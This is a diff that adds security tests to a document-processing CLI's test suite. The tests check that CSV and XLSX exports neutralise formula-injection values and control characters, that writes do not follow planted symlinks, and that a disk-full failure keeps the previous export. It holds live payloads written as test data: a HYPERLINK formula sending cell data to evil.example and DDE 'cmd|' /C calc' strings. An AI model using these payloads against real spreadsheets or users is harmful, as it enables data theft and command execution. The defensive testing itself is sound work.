@@ -614,6 +614,141 @@ def _number_and_date(number: str, date: str):
     return check
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Chỉ thị 01")'
+HOSTILE_VALUES = {"subject": FORMULA, "issuer": "+cmd|' /C calc'!A0", "signer": "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "metric": "tỷ lệ\fhộ\x1b[31m nghèo\x07 -2+3", "note": "\tghi chú\x85\u202e"}
+
+
+def hostile_store(tmp: Path) -> Path:
+    """A store of the seeds whose first record holds values a spreadsheet would run (=, +, @ …) and control
+    characters (a page break, ESC, BEL, NEL, a bidi override) — as a hostile document or reviewer could put there."""
+    db = ingest_db(tmp)
+    con = sqlite3.connect(db)
+    rec = json.loads(con.execute("SELECT record FROM documents WHERE doc_id = ?", (DOC1,)).fetchone()[0])
+    rec["metadata"]["subject"]["value"] = HOSTILE_VALUES["subject"]
+    rec["metadata"]["issuer"]["value"] = HOSTILE_VALUES["issuer"]
+    rec["metadata"]["signer"]["name"] = HOSTILE_VALUES["signer"]
+    rec["targets"][0]["metric"] = HOSTILE_VALUES["metric"]
+    rec["review"] = {"status": "in_review", "decided": 1, "total": 20, "decisions": [
+        {"item": rec["targets"][0]["id"], "decision": "accept", "value": None, "original": None,
+         "note": HOSTILE_VALUES["note"], "reviewer": "=1+1", "decided_at": "2026-11-30T08:00:00+00:00"}]}
+    with con:
+        con.execute("UPDATE documents SET record = ?, subject = ? WHERE doc_id = ?",
+                    (json.dumps(rec, ensure_ascii=False), HOSTILE_VALUES["subject"], DOC1))
+    con.close()
+    return db
+
+
+def _case_export(fmt: str):
+    def build(tmp, small):
+        hostile_store(tmp)
+        return ["export", "--format", fmt, "--db", "d.db", "--out", f"e.{fmt}"]
+    return build
+
+
+_CONTROL_RE = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
+
+
+def _csv_safe(tmp: Path, proc) -> None:
+    import csv
+    import io
+    import re
+
+    text = (tmp / "e.csv").read_text(encoding="utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + FORMULA in cells, "the formula subject is not written as quoted text"
+    assert "'+cmd|' /C calc'!A0" in cells and "'=1+1" in cells
+    assert any(c.startswith("tỷ lệ\nhộ[31m nghèo -2+3") for c in cells), "the page break and ESC not cleaned"
+    assert "'\tghi chú" in cells
+    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not live, f"cells a spreadsheet evaluates: {live[:3]}"
+    assert not re.search(_CONTROL_RE, text), "control characters in the CSV"
+
+
+def _xlsx_safe(tmp: Path, proc) -> None:
+    import re
+    import zipfile as zf
+
+    from openpyxl import load_workbook
+
+    assert (tmp / "e.xlsx").is_file(), "no workbook written"
+    wb = load_workbook(tmp / "e.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"], "formula cells in the workbook"
+    values = {c.value for c in cells}
+    assert {FORMULA, HOSTILE_VALUES["issuer"], "\tghi chú"} <= values, "values missing"
+    unmarked = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
+                and not c.quotePrefix]
+    assert not unmarked, f"text cells a spreadsheet would evaluate once edited: {unmarked[:3]}"
+    with zf.ZipFile(tmp / "e.xlsx") as z:
+        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and not re.search(_CONTROL_RE, xml), "a formula or control character in the sheets"
+
+
+_PREVIOUS = "doc_id,previous export\n" * 50
+_FULL_LIMITS: dict = {}   # the child's limits of the disk-full case: a file-size limit when no tmpfs can be mounted
+
+
+def _case_disk_full(tmp, small):
+    """The export goes to a nearly full 256 KiB tmpfs (root: mounted here), else to a child whose files cannot grow
+    past 33 KiB (RLIMIT_FSIZE: EFBIG), over a previous, good export."""
+    hostile_store(tmp)
+    full = tmp / "full"
+    full.mkdir()
+    _FULL_LIMITS.clear()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(full)], capture_output=True
+                      ).returncode == 0:
+        _LISTENERS["mounted"] = full
+        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
+        with open(full / "filler", "wb") as f:  # leave ~12 KiB
+            try:
+                f.write(b"\0" * (256 - 12) * 1024)
+            except OSError:
+                pass
+        _LISTENERS["errno"] = "No space left on device"
+    else:
+        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
+        _FULL_LIMITS["fsize"] = 33 * 1024  # over SQLite's 32 KiB -shm file, under the 37 KB export
+        _LISTENERS["errno"] = "File too large"
+    return ["export", "--format", "csv", "--db", "d.db", "--out", "full/e.csv"]
+
+
+def _previous_kept(tmp: Path, proc) -> None:
+    try:
+        assert (tmp / "full" / "e.csv").read_text(encoding="utf-8") == _PREVIOUS, "the previous export was changed"
+        left = sorted(p.name for p in (tmp / "full").iterdir() if p.name not in ("e.csv", "filler"))
+        assert not left, f"left behind: {left}"
+    finally:
+        if _LISTENERS.pop("mounted", None):
+            subprocess.run(["umount", str(tmp / "full")], capture_output=True)
+
+
+def _planted(tmp: Path, *links: str) -> None:
+    """A file the user cares about, and links to it where chithi writes: at the target itself, or at the
+    predictable temporary name the old writers used (out.xlsx.tmp, r.html.tmp)."""
+    (tmp / "victim.txt").write_text("keep me\n", encoding="utf-8")
+    for name in links:
+        (tmp / name).symlink_to(tmp / "victim.txt")
+
+
+def _case_planted(command: list[str], *links: str):
+    def build(tmp, small):
+        hostile_store(tmp)
+        _planted(tmp, *links)
+        return command
+    return build
+
+
+def _links_harmless(*outputs: str):
+    def check(tmp: Path, proc) -> None:
+        assert (tmp / "victim.txt").read_text(encoding="utf-8") == "keep me\n", "a link's target was overwritten"
+        for name in outputs:
+            assert (tmp / name).is_file() and not (tmp / name).is_symlink(), f"{name} is not the new file"
+        left = [p.name for p in tmp.iterdir() if p.name.startswith(".") and p.name.endswith(".tmp")]
+        assert not left, f"temporary files left: {left}"
+    return check
+
+
 _DEC = "chithi: error: a.json: decision 1 "
 _T0, _T1 = "2026-11-30T08:00:00Z", "2026-11-30T09:00:00+07:00"  # _T1 is 02:00 UTC: the earlier one
 
@@ -714,6 +849,20 @@ CASES: list[Case] = [
            check=_number_and_date("17/CT-UBND", "2024-03-19"))
       for name, mode, suffix in (("16bit_gray", "I;16", ".png"), ("alpha", "RGBA", ".png"), ("cmyk", "CMYK", ".tif"),
                                  ("1bit", "1", ".tif"), ("palette", "P", ".png"))],
+    # issue 21: outputs that cannot be turned against their users
+    Case("export_csv_formulas_and_controls", _case_export("csv"), 0, None, check=_csv_safe),
+    Case("export_xlsx_formulas_and_controls", _case_export("xlsx"), 0, None, check=_xlsx_safe),
+    Case("export_disk_full_keeps_previous", _case_disk_full, 3, lambda small: (
+        f"chithi: error: full/e.csv: cannot write: {_LISTENERS['errno']} (free some disk space, or write "
+        "somewhere else; the previous e.csv, if any, is kept as it was)"), check=_previous_kept, limits=_FULL_LIMITS),
+    Case("review_page_over_planted_link", _case_planted(["review", DOC1, "--db", "d.db", "--out", "r.html"],
+                                                        "r.html.tmp"), 0, None, check=_links_harmless("r.html")),
+    Case("xlsx_export_over_planted_links", _case_planted(["export", "--format", "xlsx", "--db", "d.db", "--out",
+                                                          "e.xlsx"], "e.xlsx.tmp", "e.xlsx"), 0, None,
+         check=_links_harmless("e.xlsx")),
+    Case("ics_and_timeline_over_links", _case_planted(["deadlines", "--db", "d.db", "--ics", "d.ics", "--html",
+                                                       "t.html"], "d.ics", "t.html"), 0, None,
+         check=_links_harmless("d.ics", "t.html")),
     # issue 21: reviewers' decisions are checked, all of them, before any is stored
     Case("decision_impossible_date", _case_decisions([
         {"item": "t1", "decision": "accept"},
